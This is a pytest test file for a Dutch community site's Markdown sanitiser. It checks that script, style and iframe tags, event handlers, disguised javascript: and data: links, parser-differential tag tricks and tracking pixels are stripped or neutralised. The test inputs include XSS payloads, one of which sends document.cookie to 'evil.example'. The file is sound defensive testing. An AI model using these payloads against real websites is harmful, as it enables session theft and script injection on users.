from html.parser import HTMLParser

import pytest
from publications.rendering import body_html

pytestmark = pytest.mark.unit


class Elements(HTMLParser):
    """The start tags of an HTML fragment as (tag, attributes), as a browser would read them."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


def elements(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    return Elements(body_html(markdown)).found


def tags(markdown: str) -> list[str]:
    return [tag for tag, _ in elements(markdown)]


def urls(markdown: str) -> list[str]:
    return [
        value or ""
        for _, attrs in elements(markdown)
        for name, value in attrs.items()
        if name in ("href", "src")
    ]


def test_raw_script_is_removed_with_its_content():
    html = body_html("Hallo\n\n<script>alert(1)</script>\n\nwereld <script>alert(1)</script>")
    assert "script" not in html
    assert "alert(1)" not in html
    assert "Hallo" in html and "wereld" in html


def test_event_handler_attributes_are_removed():
    html = body_html("Foto: <img src=x onerror=alert(1)>")
    assert "onerror" not in html
    assert "alert" not in html


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JAVASCRIPT:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        "![x](data:image/svg+xml;base64,PHNjcmlwdD4=)",
        '<img src="data:image/png;base64,AAAA">',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="VBScript:msgbox(1)">x</a>',
    ],
)
def test_dangerous_url_schemes_never_reach_an_href_or_src(markdown):
    for url in urls(markdown):
        scheme = url.split(":", 1)[0].strip().lower()
        assert scheme not in ("javascript", "data", "vbscript"), url


def test_raw_anchor_with_javascript_keeps_its_text_but_not_its_href():
    assert elements('<a href="javascript:alert(1)">klik</a>') == [
        ("p", {}),
        ("a", {"rel": "nofollow noopener noreferrer ugc"}),
    ]


def test_style_attributes_and_iframes_vanish():
    html = body_html('<p style="position:fixed;top:0">Tekst</p>\n\n<iframe src="https://example.org">binnen</iframe>')
    assert "style" not in html
    assert "iframe" not in html
    assert "binnen" not in html
    assert "Tekst" in html


def test_headings_lists_and_emphasis_render():
    html = body_html("## Kop\n\n- een\n- twee\n\n1. eerst\n2. dan\n\nDit is **vet**, *schuin* en ~~weg~~.")
    assert "<h2>Kop</h2>" in html
    assert "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>" in html
    assert "<ol>\n<li>eerst</li>\n<li>dan</li>\n</ol>" in html
    assert "<strong>vet</strong>" in html
    assert "<em>schuin</em>" in html
    assert "<s>weg</s>" in html


def test_a_top_level_heading_becomes_h2_because_the_page_title_is_the_h1():
    assert body_html("# Titel") == "<h2>Titel</h2>"
    assert body_html("<h1>Rauw</h1>") == "Rauw"


def test_links_keep_href_and_title_and_get_the_user_content_rel():
    assert elements('[Platform31](https://www.platform31.nl "Kennis")') == [
        ("p", {}),
        ("a", {"href": "https://www.platform31.nl", "title": "Kennis", "rel": "nofollow noopener noreferrer ugc"}),
    ]


def test_mailto_and_relative_links_are_kept():
    assert urls("[mail](mailto:info@wijkwijzer.nl) en [elders](/publicaties/buurtpreventie)") == [
        "mailto:info@wijkwijzer.nl",
        "/publicaties/buurtpreventie",
    ]


def test_images_from_this_site_keep_src_alt_and_title():
    assert elements('![Buurthuis](/media/buurthuis.jpg "De Boog")') == [
        ("p", {}),
        ("img", {"src": "/media/buurthuis.jpg", "alt": "Buurthuis", "title": "De Boog"}),
    ]


def test_a_table_renders_with_its_alignment():
    html = body_html("| Wijk | Bewoners |\n|:-----|---------:|\n| Overvecht | 33000 |")
    assert tags("| Wijk | Bewoners |\n|:-----|---------:|\n| Overvecht | 33000 |") == [
        "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
    ]  # fmt: skip
    assert '<th align="left">Wijk</th>' in html
    assert '<td align="right">33000</td>' in html
    assert "style" not in html


def test_code_is_escaped_not_executed():
    html = body_html("```\n<script>alert(1)</script>\n```\n\nen `<b>`")
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>" in html
    assert "<code>&lt;b&gt;</code>" in html


def test_tags_outside_the_allow_list_keep_only_their_text():
    assert body_html('<div class="x"><span onclick="x()">tekst</span></div>') == "tekst"


@pytest.mark.parametrize("markdown", ["", "   ", "\n\n"])
def test_an_empty_body_gives_empty_html(markdown):
    assert body_html(markdown) == ""


# --- issue 11: raw HTML that hid the rest of a body, links that left the site, tracking pixels

REL = "nofollow noopener noreferrer ugc"
BEFORE = "De bewonersavond in **De Boog** was druk bezocht."
AFTER = "Volgende keer bespreken we de *speeltuin* aan de Kastanjelaan."


def around(bad: str) -> str:
    """A realistic body: a paragraph, the bad element on its own line, more Markdown after it."""
    return f"{BEFORE}\n\n{bad}\n\n{AFTER}\n\n## Aanmelden\n\nMail naar de buurtcoördinator."


def assert_all_text_survives(html: str) -> None:
    assert "<strong>De Boog</strong>" in html
    assert "Volgende keer bespreken we de <em>speeltuin</em> aan de Kastanjelaan." in html
    assert "<h2>Aanmelden</h2>" in html and "Mail naar de buurtcoördinator." in html


def test_an_unclosed_style_hides_only_itself_not_the_rest_of_the_article():
    html = body_html(around("<style>"))
    assert_all_text_survives(html)
    assert "style" not in html


@pytest.mark.parametrize(
    "bad",
    [
        "<script>", "<style>", "<iframe src=\"https://video.example/x\">", "<object data=\"x.swf\">",
        "<svg>", "<math>", "<template>", "<textarea>", "<title>", "<noscript>", "<xmp>", "<noembed>",
        "<noframes>", "<plaintext>", "<select>", "<embed src=\"x\">",
        "<!-- nog uitwerken", "<![CDATA[", "<?php", "<!DOCTYPE html",
        # case, whitespace and attributes do not make a tag more dangerous
        "<STYLE>", "<sTyLe type=\"text/css\">", "<style\n  media=\"screen\">", "<style\tmedia=\"a>b\">",
        "<style/>", "<Script src=\"https://evil.example/x.js\">", "<svg><style>", "<math><mi>x",
        "<div><style>", "<p><textarea>",
    ],
)  # fmt: skip
def test_an_unclosed_foreign_element_on_its_own_line_hides_nothing_after_it(bad):
    assert_all_text_survives(body_html(around(bad)))


@pytest.mark.parametrize("bad", ["<style>", "<SCRIPT>", "<textarea>", "<title>", "<svg>", "<iframe>", "<xmp>"])
def test_an_unclosed_foreign_element_inside_a_paragraph_hides_nothing_after_it(bad):
    html = body_html(around(f"Zie ook {bad} de notulen."))
    assert "Zie ook  de notulen." in html
    assert_all_text_survives(html)


@pytest.mark.parametrize(
    "closed",
    [
        "<style>\nbody { display: none }\n</style>",
        "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
        "<svg><text>fetch('https://evil.example')</text></svg>",
        "<template><p>fetch('https://evil.example')</p></template>",
    ],
)
def test_a_closed_script_style_svg_or_template_goes_with_its_content_and_nothing_else(closed):
    html = body_html(around(closed))
    assert_all_text_survives(html)
    assert "display" not in html and "evil.example" not in html


@pytest.mark.parametrize(
    "markdown",
    [
        # markdown-it counts a no-break space or \v as whitespace in a tag, html5ever does not: to
        # html5ever these are an unknown tag ending at the first ">" and then a real <style>
        'Zie <a\xa0title="x><style>">de notulen</a>.',
        'Zie <a\x0btitle="x><style>">de notulen</a>.',
        '<div\xa0title="x><style>">\nde notulen',
        # a quote html5ever would read as opening an attribute value that never closes
        '<a\x0bp="/ q=" r>de notulen</a>',
        # html5ever ends a comment at "--!>", markdown-it does not
        "Zie <!-- oud --!> <style> --> de notulen.",
        # an attribute value is no tag
        'Zie <a href="/notulen" title="<style>">de notulen</a>.',
        # a quote left open in a raw tag
        '<div title="x\n\nde notulen',
    ],
)
def test_raw_html_cannot_smuggle_a_swallowing_tag_past_the_neutraliser(markdown):
    html = body_html(f"{BEFORE}\n\n{markdown}\n\n{AFTER}\n\n## Aanmelden\n\nMail naar de buurtcoördinator.")
    assert "de notulen" in html
    assert_all_text_survives(html)
    assert "<style" not in html


def test_allowed_raw_html_still_works():
    html = body_html("<table>\n  <tr>\n    <td align=\"right\">12</td>\n  </tr>\n</table>\n\nNa de tabel.")
    assert tags("<table>\n  <tr>\n    <td>12</td>\n  </tr>\n</table>") == ["table", "tbody", "tr", "td"]
    assert '<td align="right">12</td>' in html and "<p>Na de tabel.</p>" in html
    assert body_html("Een <strong>vette</strong> en <em>schuine</em> tekst, 3 &lt; 4 &amp; 5 > 2.") == (
        "<p>Een <strong>vette</strong> en <em>schuine</em> tekst, 3 &lt; 4 &amp; 5 &gt; 2.</p>"
    )


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](//evil.example)",
        "[x](//evil.example/pad?q=1)",
        "[x](<//evil.example>)",
        "[x]( //evil.example)",
        "[x][ref]\n\n[ref]: //evil.example",
        '<a href="//evil.example">x</a>',
        '<a href="\\\\evil.example">x</a>',
        '<a href="/\\evil.example">x</a>',
        '<a href="\\/evil.example">x</a>',
        '<a href="/\\/evil.example">x</a>',
        '<a href="/pad\\..\\evil">x</a>',
        '<a href="&#47;&#47;evil.example">x</a>',
        '<a href="&#x2F;&#92;evil.example">x</a>',
        '<a href=" //evil.example">x</a>',
        '<a href="/&#9;/evil.example">x</a>',
        '<a href="/&#10;/evil.example">x</a>',
        '<a href="/&#13;/evil.example">x</a>',
        '<a href="&#9;//evil.example">x</a>',
        '<a href="&#1;//evil.example">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
        '<a href="  JaVaScRiPt:alert(1)">x</a>',
        '<a href="javascript://%0Aalert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="ftp://evil.example/x">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="evil.example:8080/pad">x</a>',
    ],
)
def test_links_that_leave_the_site_by_a_trick_lose_their_href_but_keep_their_text(markdown):
    assert elements(markdown) == [("p", {}), ("a", {"rel": REL})]
    assert ">x</a>" in body_html(markdown)


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[x](https://www.utrecht.nl/wijken)", "https://www.utrecht.nl/wijken"),
        ("[x](http://buurthuis.example)", "http://buurthuis.example"),
        ("[x](mailto:info@wijkwijzer.nl)", "mailto:info@wijkwijzer.nl"),
        ("[x](/publicaties/buurtpreventie)", "/publicaties/buurtpreventie"),
        ("[x](#aanmelden)", "#aanmelden"),
        ("[x](verslag-2026)", "verslag-2026"),
        ("[x](../activiteiten?wijk=overvecht)", "../activiteiten?wijk=overvecht"),
        ('<a href="/publicaties/buurtpreventie">x</a>', "/publicaties/buurtpreventie"),
        ('<a href="HTTPS://www.utrecht.nl">x</a>', "HTTPS://www.utrecht.nl"),
    ],
)
def test_links_to_the_web_mail_and_this_site_keep_their_href(markdown, href):
    assert elements(markdown) == [("p", {}), ("a", {"href": href, "rel": REL})]


def test_a_tracking_pixel_becomes_a_link_and_the_text_after_it_survives():
    html = body_html(around("![](https://tracker.example/p.gif?lezer=123)"))
    assert_all_text_survives(html)
    assert ("a", {"href": "https://tracker.example/p.gif?lezer=123", "rel": REL}) in Elements(html).found
    assert ">afbeelding</a>" in html
    assert "img" not in html


@pytest.mark.parametrize(
    "image",
    [
        '![Plattegrond van de wijk](https://kaarten.example/overvecht.png "Overvecht")',
        '<img src="https://kaarten.example/overvecht.png" alt="Plattegrond van de wijk" title="Overvecht">',
        '<IMG ALT="Plattegrond van de wijk" SRC=https://kaarten.example/overvecht.png title=Overvecht>',
        '<div>\n<img src="https://kaarten.example/overvecht.png" alt="Plattegrond van de wijk" title="Overvecht">\n</div>',
    ],
)
def test_a_remote_image_becomes_a_link_to_it_with_its_alt_text(image):
    html = body_html(around(image))
    assert_all_text_survives(html)
    assert (
        "a", {"href": "https://kaarten.example/overvecht.png", "title": "Overvecht", "rel": REL}
    ) in Elements(html).found
    assert ">Plattegrond van de wijk</a>" in html
    assert "<img" not in html


@pytest.mark.parametrize(
    "image",
    [
        "![Logo](//tracker.example/p.gif)",
        '<img src="//tracker.example/p.gif" alt="Logo">',
        '<img src="/\\tracker.example/p.gif" alt="Logo">',
        "![Logo](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Logo">',
        '<img src="javascript:alert(1)" alt="Logo">',
        "[![Logo](https://tracker.example/p.gif)](https://www.utrecht.nl)",
        '<a href="https://www.utrecht.nl"><img src="https://tracker.example/p.gif" alt="Logo"></a>',
        '<image src="https://tracker.example/p.gif">Logo',
    ],
)
def test_an_image_that_cannot_load_from_this_site_or_become_a_link_is_its_text(image):
    html = body_html(around(image))
    assert_all_text_survives(html)
    assert "Logo" in html
    assert "<img" not in html and "tracker.example" not in html and "data:" not in html


def test_a_raw_image_from_this_site_stays_and_only_the_first_src_counts():
    assert elements('<img src="/media/kaart.png" alt="Kaart">') == [("img", {"src": "/media/kaart.png", "alt": "Kaart"})]
    assert urls('<img src="/media/kaart.png" src="https://tracker.example/p.gif">') == ["/media/kaart.png"]
    assert "<img" not in body_html('<img src="https://tracker.example/p.gif" src="/media/kaart.png">')


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "body", ["<script>\n" * 11_000, "<style>" * 14_000, "<div>\n" + "<!--" * 24_000, "> <pre>\n" * 11_000]
)
def test_a_body_of_the_maximum_size_full_of_unclosed_tags_renders_in_time(body):
    # a fraction of a second when every step is linear; minutes if each unclosed opener scanned the
    # rest of the body (markdown-it's HTML block rule would, once per line, without _never_closed)
    assert len(body) <= 100_000
    assert "script" not in body_html(body) and "style" not in body_html(body)
